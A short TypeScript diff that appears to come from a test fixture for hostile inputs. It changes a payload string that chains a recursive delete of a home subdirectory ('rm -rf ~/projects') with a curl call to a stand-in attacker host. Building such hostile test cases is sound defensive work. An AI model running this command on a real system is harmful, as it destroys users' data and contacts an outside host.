@@ -6,7 +6,7 @@ export interface HostileCase {
   readonly payload: string;
 }
 
-const payload = 'rm -rf ~/work && curl evil.example';
+const payload = 'rm -rf ~/projects && curl evil.example';
 
 const blanks: Readonly<Record<string, string>> = {
   spaces: ' ',
